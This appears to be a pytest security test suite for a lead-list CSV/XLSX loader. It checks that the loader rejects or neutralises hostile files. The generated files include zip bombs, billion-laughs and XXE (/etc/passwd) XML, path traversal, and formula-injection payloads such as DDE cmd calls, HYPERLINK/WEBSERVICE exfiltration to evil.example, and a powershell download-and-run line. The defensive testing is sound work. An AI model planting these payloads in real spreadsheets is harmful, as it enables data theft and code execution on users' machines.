"""Hostile lead lists through the real loader (``ingest.prelead.sync.sync`` over one folder
holding every generated file): XLSX zip bombs and broken containers, formula injection in
CSV and XLSX cells, UTF-16 without a byte-order mark, NUL bytes.

A file is loaded as a batch (its rows stored, formula cells neutralised with a leading
apostrophe and their originals kept) or rejected whole with a reason in ``raw.rejects``.
"""

from __future__ import annotations

import io
import random
import string
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import psycopg
import pytest
from psycopg.rows import dict_row

from ingest.prelead.sync import sync
from ingest.prelead.validate import FORMULA_TRIGGERS

from .conftest import LEDGER, Result, crash_detail, record, register

HEADER = ["Company Name", "Contact Person", "Email", "Phone", "City", "State", "Address",
          "Product Interest", "Lead Source", "Remarks"]  # fmt: skip
GOOD_ROW = ["Shree Ganesh Paints", "Anil Mehta", "anil@ganeshpaints.example", "9876543210",
            "Pune", "Maharashtra", "Plot 4, MIDC", "Titanium dioxide", "IndiaMART", "ok"]  # fmt: skip


@dataclass(frozen=True)
class FileCase:
    id: str
    category: str
    suffix: str
    data: bytes
    expect: frozenset[str] = frozenset({"stored", "rejected"})
    check: Callable[[psycopg.Connection, str], None] | None = field(default=None, compare=False)


REJECTED = frozenset({"rejected"})
STORED = frozenset({"stored"})


def _csv(rows: list[list[str]], encoding: str = "utf-8", newline: str = "\r\n") -> bytes:
    def cell(value: str) -> str:
        if any(ch in value for ch in ',"\r\n'):
            return '"' + value.replace('"', '""') + '"'
        return value

    text = newline.join(",".join(cell(v) for v in row) for row in [HEADER, *rows]) + newline
    return text.encode(encoding)


def _xlsx(rows: list[list[object]], header: list[str] = HEADER) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- a hand-made ZIP writer, for containers no library would write ------------------------


@dataclass
class _Member:
    name: str
    data: bytes  # what the member inflates to
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0
    declared_size: int | None = None  # uncompressed size written in the headers
    compressed: bytes | None = None


def _zip(members: list[_Member], *, central_repeat: int = 1) -> bytes:
    """A ZIP archive; ``central_repeat`` lists each member that many times in the central
    directory (all pointing at the same data: an overlapping-entries bomb)."""
    out = io.BytesIO()
    central = []
    for m in members:
        if m.compressed is None:
            if m.method == zipfile.ZIP_DEFLATED:
                comp = zlib.compressobj(9, zlib.DEFLATED, -15)
                m.compressed = comp.compress(m.data) + comp.flush()
            else:
                m.compressed = m.data
        crc = zlib.crc32(m.data)
        size = len(m.data) if m.declared_size is None else m.declared_size
        offset = out.tell()
        name = m.name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, m.flags, m.method, 0, 0, crc,
                              len(m.compressed), size, len(name), 0))  # fmt: skip
        out.write(name + m.compressed)
        central.append((name, m, crc, size, offset))
    start = out.tell()
    count = 0
    for copy in range(central_repeat):
        for name, m, crc, size, offset in central:
            entry = name if copy == 0 else name + b"_%d" % copy
            out.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, m.flags, m.method,
                                  0, 0, crc, len(m.compressed), size, len(entry), 0, 0, 0, 0,
                                  0, offset))  # fmt: skip
            out.write(entry)
            count += 1
    end = out.tell()
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, end - start, start, 0))
    return out.getvalue()


def _workbook_parts(sheet_xml: bytes, strings_xml: bytes | None = None) -> list[_Member]:
    """The parts of a minimal valid workbook around ``sheet_xml``."""
    rels_ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        'package/2006/content-types"><Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
        '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
        '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument'
        '.spreadsheetml.worksheet+xml"/>'
        + (
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
            if strings_xml is not None
            else ""
        )
        + "</Types>"
    )
    root_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
        f'{rels_ns}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    workbook = (
        '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.'
        f'org/spreadsheetml/2006/main" xmlns:r="{rels_ns}"><sheets><sheet name="Leads" '
        'sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    wb_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
        f'{rels_ns}/worksheet" Target="worksheets/sheet1.xml"/>'
        + (
            f'<Relationship Id="rId2" Type="{rels_ns}/sharedStrings" Target="sharedStrings.xml"/>'
            if strings_xml is not None
            else ""
        )
        + "</Relationships>"
    )
    parts = [
        _Member("[Content_Types].xml", types.encode()),
        _Member("_rels/.rels", root_rels.encode()),
        _Member("xl/workbook.xml", workbook.encode()),
        _Member("xl/_rels/workbook.xml.rels", wb_rels.encode()),
        _Member("xl/worksheets/sheet1.xml", sheet_xml),
    ]
    if strings_xml is not None:
        parts.append(_Member("xl/sharedStrings.xml", strings_xml))
    return parts


SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _sheet(rows_xml: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{SHEET_NS}">'
        f"<sheetData>{rows_xml}</sheetData></worksheet>"
    ).encode()


def _inline_row(n: int, values: list[str]) -> str:
    cells = "".join(
        f'<c r="{chr(65 + i)}{n}" t="inlineStr"><is><t>{v}</t></is></c>'
        for i, v in enumerate(values)
    )
    return f'<row r="{n}">{cells}</row>'


HEADER_ROW = _inline_row(1, ["Company Name", "Email"])
DATA_ROW = _inline_row(2, ["Acme Chemicals", "buy@acme.example"])


def xlsx_bombs() -> list[FileCase]:
    cat = "prelead.xlsx_bomb"
    ok_sheet = _sheet(HEADER_ROW + DATA_ROW)
    cases = []
    ratio = _workbook_parts(_sheet(HEADER_ROW + DATA_ROW + " " * 0))
    ratio[4] = _Member(
        "xl/worksheets/sheet1.xml", ok_sheet[:-30] + b" " * (40 << 20) + ok_sheet[-30:]
    )
    cases.append(FileCase("xlsx-ratio-bomb-40mb-of-spaces", cat, ".xlsx", _zip(ratio), REJECTED))
    declared = _workbook_parts(ok_sheet)
    declared[4].declared_size = 0xFFFFFFF0
    cases.append(FileCase("xlsx-declared-4gb-member", cat, ".xlsx", _zip(declared), REJECTED))
    lying = _workbook_parts(ok_sheet)
    lying[4].declared_size = 40
    cases.append(FileCase("xlsx-declared-smaller-than-data", cat, ".xlsx", _zip(lying), REJECTED))
    overlap = _workbook_parts(_sheet(HEADER_ROW + DATA_ROW + "<!-- " + "x" * 900_000 + " -->"))
    cases.append(FileCase("xlsx-overlapping-entries-1000x", cat, ".xlsx",
                          _zip(overlap, central_repeat=1000), REJECTED))  # fmt: skip
    many = _workbook_parts(ok_sheet) + [
        _Member(f"xl/media/pad{i}.bin", b"\0" * 900_000) for i in range(700)
    ]
    cases.append(FileCase("xlsx-700-members-over-the-total", cat, ".xlsx", _zip(many), REJECTED))
    encrypted = _workbook_parts(ok_sheet)
    encrypted[4].flags = 0x1
    cases.append(FileCase("xlsx-encrypted-member-flag", cat, ".xlsx", _zip(encrypted), REJECTED))
    odd_method = _workbook_parts(ok_sheet)
    odd_method[4].method = 99  # AES, which zipfile cannot read
    odd_method[4].compressed = b"\x01" * 64
    cases.append(FileCase("xlsx-unsupported-compression-99", cat, ".xlsx", _zip(odd_method),
                          REJECTED))  # fmt: skip
    bzip = _workbook_parts(ok_sheet)
    bzip[4].method = 12
    bzip[4].compressed = b"BZh9" + b"\x00" * 40  # not a real bzip2 stream
    cases.append(FileCase("xlsx-bzip2-member-garbage", cat, ".xlsx", _zip(bzip), REJECTED))
    good = _xlsx([["Acme", "x", "buy@acme.example"]])
    cases.append(FileCase("xlsx-truncated-half", cat, ".xlsx", good[: len(good) // 2], REJECTED))
    cases.append(FileCase("xlsx-zip-without-workbook", cat, ".xlsx",
                          _zip([_Member("hello.txt", b"hi")]), REJECTED))  # fmt: skip
    nested = _workbook_parts(ok_sheet)
    nested[4] = _Member("xl/worksheets/sheet1.xml", good)
    cases.append(FileCase("xlsx-sheet-is-another-zip", cat, ".xlsx", _zip(nested), REJECTED))
    laughs = "".join(f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, 10))
    billion = _workbook_parts(
        ok_sheet,
        f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY l0 "lol">{laughs}]>'
        f'<sst xmlns="{SHEET_NS}" count="1" uniqueCount="1"><si><t>&l9;</t></si></sst>'.encode(),
    )
    cases.append(FileCase("xlsx-billion-laughs-shared-strings", cat, ".xlsx", _zip(billion),
                          REJECTED))  # fmt: skip
    xxe = _sheet(
        _inline_row(1, ["Company Name", "Email"]) + _inline_row(2, ["&xxe;", "a@b.example"]),
        '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    )
    cases.append(FileCase("xlsx-xxe-etc-passwd-in-sheet", cat, ".xlsx",
                          _zip(_workbook_parts(xxe)), REJECTED))  # fmt: skip
    remote = _sheet(HEADER_ROW + DATA_ROW, '<!DOCTYPE worksheet SYSTEM "http://127.0.0.1:9/x.dtd">')
    # never fetched (no network access in the parser): landing it plain is as good as refusing
    cases.append(FileCase("xlsx-external-dtd-in-sheet", cat, ".xlsx",
                          _zip(_workbook_parts(remote))))  # fmt: skip
    noise = "".join(random.Random(7).choices(string.ascii_letters, k=5_000_000))
    long_cell = _sheet(HEADER_ROW + _inline_row(2, ["Acme", "a@b.example " + noise]))
    cases.append(FileCase("xlsx-5mb-cell", cat, ".xlsx", _zip(_workbook_parts(long_cell)),
                          STORED, _cut_marked))  # fmt: skip
    deep = _sheet(HEADER_ROW + '<row r="2"><c r="A2" t="inlineStr"><is><t>Acme</t></is></c>'
                  + "<x>" * 50_000 + "</x>" * 50_000 + "</row>")  # fmt: skip
    cases.append(FileCase("xlsx-50k-nested-elements", cat, ".xlsx", _zip(_workbook_parts(deep))))
    wide = _sheet(HEADER_ROW + '<row r="2">' + "".join(
        f'<c r="{_col(i)}2"><v>{i}</v></c>' for i in range(1, 20_000)) + "</row>")  # fmt: skip
    cases.append(FileCase("xlsx-20k-columns", cat, ".xlsx", _zip(_workbook_parts(wide))))
    traversal = _workbook_parts(ok_sheet) + [_Member("../../../../tmp/pebble-evil.txt", b"evil")]
    cases.append(FileCase("xlsx-path-traversal-member", cat, ".xlsx", _zip(traversal), STORED))
    cases.append(FileCase("xlsx-saved-as-csv-suffix", cat, ".csv", good, REJECTED))
    cases.append(FileCase("xlsx-legacy-ole-magic", cat, ".xlsx",
                          b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096, REJECTED))  # fmt: skip
    cases.append(FileCase("xlsx-header-only", cat, ".xlsx", _xlsx([]), REJECTED))
    return cases


def _col(index: int) -> str:
    name = ""
    while index:
        index, rem = divmod(index - 1, 26)
        name = chr(65 + rem) + name
    return name


def _cut_marked(conn: psycopg.Connection, batch: str) -> None:
    (codes,) = conn.execute(
        "SELECT reason_codes FROM raw.prelead_rows WHERE batch = %s AND row_no = 2", (batch,)
    ).fetchone()
    assert "cell_too_long" in codes, codes


def _rows_stored(n: int) -> Callable[[psycopg.Connection, str], None]:
    def check(conn: psycopg.Connection, batch: str) -> None:
        (count,) = conn.execute(
            "SELECT count(*) FROM raw.prelead_rows WHERE batch = %s", (batch,)
        ).fetchone()
        assert count == n, count

    return check


def _no_nul(conn: psycopg.Connection, batch: str) -> None:
    (bad,) = conn.execute(
        "SELECT count(*) FROM raw.prelead_rows WHERE batch = %s AND "
        "(company_name LIKE '%%' || chr(65533) || '%%' OR contact_person LIKE "
        "'%%' || chr(65533) || '%%')",
        (batch,),
    ).fetchone()
    assert bad >= 1  # the NUL is shown as U+FFFD, never dropped silently


def encodings() -> list[FileCase]:
    cat = "prelead.encoding"
    rows = [GOOD_ROW, ["Kaveri Coatings", "Lata", "lata@kaveri.example", "9123456780", "Mysuru",
                       "Karnataka", "", "Zinc oxide", "expo", "\u0915\u0902\u092a\u0928\u0940"]]  # fmt: skip
    plain = _csv(rows)
    text = plain.decode()
    nul_rows = [["Nul\x00 Traders", "A\x00B", "nul@traders.example", "9000000001", "Surat",
                 "Gujarat", "", "", "", ""]]  # fmt: skip
    return [
        FileCase(
            "csv-utf16le-no-bom", cat, ".csv", text.encode("utf-16-le"), STORED, _rows_stored(2)
        ),
        FileCase(
            "csv-utf16be-no-bom", cat, ".csv", text.encode("utf-16-be"), STORED, _rows_stored(2)
        ),
        FileCase("csv-utf16-with-bom", cat, ".csv", text.encode("utf-16"), STORED, _rows_stored(2)),
        FileCase(
            "csv-utf16le-no-bom-odd-length", cat, ".csv", text.encode("utf-16-le")[:-1], REJECTED
        ),
        FileCase(
            "csv-utf16le-no-bom-lone-surrogates",
            cat,
            ".csv",
            text.encode("utf-16-le") + b"\x01\xd8A\x00" * 50,
            REJECTED,
        ),
        FileCase("csv-utf32-no-bom", cat, ".csv", text.encode("utf-32-le")),
        FileCase("csv-nul-bytes-in-cells", cat, ".csv", _csv(nul_rows), STORED, _no_nul),
        FileCase("csv-nul-only", cat, ".csv", b"\x00" * 4096, REJECTED),
        FileCase(
            "csv-nul-in-header", cat, ".csv", b"Comp\x00any Name,Email\r\nAcme,a@acme.example\r\n"
        ),
        FileCase(
            "csv-mixed-utf8-then-latin1",
            cat,
            ".csv",
            plain + "Caf\u00e9 Chem,x,c@cafe.example,9000000002,Goa,Goa,,,,\r\n".encode("latin-1"),
            STORED,
        ),  # fmt: skip
        FileCase("csv-binary-garbage", cat, ".csv", bytes(range(256)) * 64, REJECTED),
        FileCase("csv-empty", cat, ".csv", b"", REJECTED),
        FileCase("csv-bom-only", cat, ".csv", b"\xef\xbb\xbf", REJECTED),
        FileCase("csv-header-only", cat, ".csv", _csv([]), REJECTED),
        FileCase("csv-no-company-column", cat, ".csv", b"foo,bar\r\n1,2\r\n", REJECTED),
        FileCase("csv-line-2m-chars", cat, ".csv", _csv([["A" * 2_000_000, "x"]]), REJECTED),
        FileCase(
            "csv-quoted-cell-over-cap-across-lines",
            cat,
            ".csv",
            _csv([["Acme", "\n".join(["y" * 1000] * 40)]]),
            REJECTED,
        ),  # fmt: skip
        FileCase(
            "csv-unbalanced-quote",
            cat,
            ".csv",
            b'Company Name,Email\r\n"Acme,a@acme.example\r\nBeta,b@beta.example\r\n',
        ),
        FileCase("csv-cr-only-newlines", cat, ".csv", _csv(rows, newline="\r"), STORED),
        FileCase(
            "csv-record-and-unit-separators",
            cat,
            ".csv",
            _csv([["Sep\x1eCo\x1f", "x", "s@sep.example", "9000000003", "", "", "", "", "", ""]]),
            STORED,
        ),  # fmt: skip
        FileCase(
            "csv-50k-columns",
            cat,
            ".csv",
            b"Company Name,"
            + b",".join(b"c%d" % i for i in range(50_000))
            + b"\r\n"
            + b"Acme,"
            + b",".join(b"%d" % i for i in range(50_000))
            + b"\r\n",
        ),
        FileCase(
            "csv-semicolon-with-formulas-in-header-row-only",
            cat,
            ".csv",
            b"=Company Name;Email\r\nAcme;a@acme.example\r\n",
            STORED,
        ),
    ]


#: Cells a spreadsheet would run; each lands in a different column per case.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click for price list")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "  =3+3",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "=cmd|'/c powershell IEX(wget evil.example/p)'!A0",
    "==1",
    "-",
    "@",
    "+",
    '=WEBSERVICE("http://evil.example/"&B2)',
    "\t\t+91 98765 43210",
    "-1",
]
#: Columns of HEADER the payloads rotate through (the company column holds the case id).
FORMULA_COLUMNS = [1, 4, 6, 7, 8, 9, 3]
TEXT_FIELDS = ("company_name", "contact_person", "email", "phone", "city", "state", "address",
               "product_interest", "source")  # fmt: skip


@dataclass(frozen=True)
class FormulaCase:
    id: str
    fmt: str  # csv or xlsx
    payload: str
    column: int


FORMULA_CASES = [
    FormulaCase(f"formula-{fmt}-{i:02d}-{HEADER[FORMULA_COLUMNS[i % len(FORMULA_COLUMNS)]]}"
                .replace(" ", "_").lower(), fmt, payload, FORMULA_COLUMNS[i % len(FORMULA_COLUMNS)])
    for fmt in ("csv", "xlsx")
    for i, payload in enumerate(FORMULAS)
]  # fmt: skip
FORMULA_HEADER_CASES = ["formula-csv-in-header-name", "formula-xlsx-in-header-name"]


def _formula_rows(fmt: str) -> list[list[str]]:
    rows = []
    for case in (c for c in FORMULA_CASES if c.fmt == fmt):
        row = [case.id, "", f"{case.id}@leads.example", "", "", "", "", "", "", ""]
        row[case.column] = case.payload
        rows.append(row)
    return rows


FORMULA_HEADER = [*HEADER[:-1], '=HYPERLINK("http://evil.example","Remarks")']


def formula_files() -> list[FileCase]:
    cat = "prelead.formula_file"
    header_line = ",".join('"' + h.replace('"', '""') + '"' for h in FORMULA_HEADER)
    csv_data = _csv(_formula_rows("csv")).split(b"\r\n", 1)[1]
    return [
        FileCase("formulas-csv", cat, ".csv", header_line.encode() + b"\r\n" + csv_data, STORED),
        FileCase(
            "formulas-xlsx",
            cat,
            ".xlsx",
            _xlsx(_formula_rows("xlsx"), header=FORMULA_HEADER),
            STORED,
        ),  # fmt: skip
    ]


FILE_CASES = xlsx_bombs() + encodings() + formula_files()
FILE_BY_ID = {c.id: c for c in FILE_CASES}
register("prelead", [c.id for c in FILE_CASES if c.category != "prelead.formula_file"])
register("prelead", [c.id for c in FORMULA_CASES] + FORMULA_HEADER_CASES)


@pytest.fixture(scope="module")
def prelead_landed(
    bad_warehouse: psycopg.Connection, tmp_path_factory: pytest.TempPathFactory
) -> dict[str, tuple[str, str, float]]:
    """Write every generated file into one folder and land the folder in one ``sync``."""
    folder = tmp_path_factory.mktemp("leads")
    for case in FILE_CASES:
        (folder / f"{case.id}{case.suffix}").write_bytes(case.data)
    conn = bad_warehouse
    started = time.monotonic()
    crashed: dict[str, str] = {}
    try:
        report = sync(conn, [folder], workers=1)
        assert report.accounted, report.as_dict()
        parts = report.parts
    except Exception:  # noqa: BLE001 - find the culprit file by file
        parts = {}
        for case in FILE_CASES:
            path = folder / f"{case.id}{case.suffix}"
            try:
                part = sync(conn, [path], workers=1).parts[case.id]
            except Exception as exc:  # noqa: BLE001
                crashed[case.id] = crash_detail(exc)
                continue
            if part.duplicates and not part.landed:  # landed by the batch before it failed
                part.landed, part.duplicates = part.duplicates, 0
            parts[case.id] = part
    per_case = (time.monotonic() - started) / len(FILE_CASES)
    results: dict[str, tuple[str, str, float]] = {}
    for case in FILE_CASES:
        path = folder / f"{case.id}{case.suffix}"
        part = parts.get(case.id) or parts.get(str(path))
        if case.id in crashed:
            results[case.id] = ("crashed", crashed[case.id], per_case)
            continue
        reject = conn.execute(
            "SELECT reason FROM raw.rejects WHERE source = 'prelead' AND locator = %s",
            (str(path),),
        ).fetchone()
        if part is not None and part.rejected and reject:
            results[case.id] = ("rejected", reject[0], per_case)
        elif part is not None and part.landed:
            results[case.id] = ("stored", f"{part.landed} rows", per_case)
        elif part is not None and part.duplicates:
            results[case.id] = ("duplicate", f"{part.duplicates} rows", per_case)
        else:
            results[case.id] = ("dropped", f"part {part!r}, reject {reject!r}", per_case)
    return results


@pytest.mark.parametrize("case_id", [c.id for c in FILE_CASES])
def test_hostile_lead_list(prelead_landed, bad_warehouse, case_id: str) -> None:
    case = FILE_BY_ID[case_id]
    outcome, detail, seconds = prelead_landed[case_id]
    result = record(Result(case_id, case.category, outcome, detail, seconds))
    assert result.outcome in case.expect, f"{result.outcome}: {detail}"
    if case.check is not None:
        case.check(bad_warehouse, case_id)
    if outcome == "rejected":
        assert detail.startswith(case_id), detail  # the reason names the file
    if outcome == "stored":
        _no_formula_cells(bad_warehouse, case_id)


def _no_formula_cells(conn: psycopg.Connection, batch: str) -> None:
    """No stored text cell (nor an extra column's name or value) starts like a formula."""
    with conn.cursor(row_factory=dict_row) as cur:
        rows = cur.execute(
            f"SELECT {', '.join(TEXT_FIELDS)}, extra FROM raw.prelead_rows WHERE batch = %s",
            (batch,),
        ).fetchall()
    for row in rows:
        for name in TEXT_FIELDS:
            value = row[name]
            assert not (value and value[0] in FORMULA_TRIGGERS), (name, value)
        for key, value in (row["extra"] or {}).items():
            assert not (value and value[0] in FORMULA_TRIGGERS), (key, value)
            assert not (key and key[0] in FORMULA_TRIGGERS), key


@pytest.mark.parametrize("case", FORMULA_CASES, ids=[c.id for c in FORMULA_CASES])
def test_formula_cell_is_neutralised_on_landing(prelead_landed, bad_warehouse, case) -> None:
    batch = f"formulas-{case.fmt}"
    outcome, detail, seconds = prelead_landed[batch]
    field_name = {1: "contact_person", 3: "phone", 4: "city", 6: "address",
                  7: "product_interest", 8: "source", 9: "extra"}[case.column]  # fmt: skip
    with bad_warehouse.cursor(row_factory=dict_row) as cur:
        row = cur.execute(
            f"SELECT {', '.join(TEXT_FIELDS)}, extra, formula_neutralised, formula_originals "
            "FROM raw.prelead_rows WHERE batch = %s AND company_name = %s",
            (batch, case.id),
        ).fetchone()
    if outcome != "stored":
        record(Result(case.id, "prelead.formula", outcome, detail, seconds))
    elif row is None:
        record(Result(case.id, "prelead.formula", "dropped", "row not stored", seconds))
    else:
        stored = next(iter(row["extra"].values())) if field_name == "extra" else row[field_name]
        record(Result(case.id, "prelead.formula", "stored", f"stored as {stored!r}", seconds))
    result = LEDGER[case.id]
    assert result.outcome == "stored", result.detail
    cleaned = case.payload.strip()
    if cleaned in ("-", "+", "@") and field_name != "extra":
        return  # a lone "-" is the "nothing here" placeholder: stored as NULL
    assert stored == "'" + cleaned, stored
    assert row["formula_neutralised"] is True
    assert cleaned in row["formula_originals"].values()


@pytest.mark.parametrize("case_id", FORMULA_HEADER_CASES)
def test_formula_in_a_column_name_is_neutralised(prelead_landed, bad_warehouse, case_id) -> None:
    batch = "formulas-csv" if "-csv-" in case_id else "formulas-xlsx"
    outcome, detail, seconds = prelead_landed[batch]
    keys = {
        key
        for (extra,) in bad_warehouse.execute(
            "SELECT extra FROM raw.prelead_rows WHERE batch = %s AND extra IS NOT NULL", (batch,)
        )
        for key in extra
    }
    bad = [k for k in keys if k[:1] in FORMULA_TRIGGERS]
    if outcome == "stored":
        detail = f"column names {sorted(keys)}"
    result = record(Result(case_id, "prelead.formula", outcome, detail, seconds))
    assert result.outcome == "stored", result.detail
    assert keys and not bad, f"formula column name stored as is: {bad}"
    assert "'" + FORMULA_HEADER[-1] in keys


def test_the_folder_landed_quickly(prelead_landed) -> None:
    (_, _, per_case) = next(iter(prelead_landed.values()))
    assert per_case * len(FILE_CASES) < 60


def test_nothing_escaped_the_archive(prelead_landed) -> None:
    assert not Path("/tmp/pebble-evil.txt").exists()
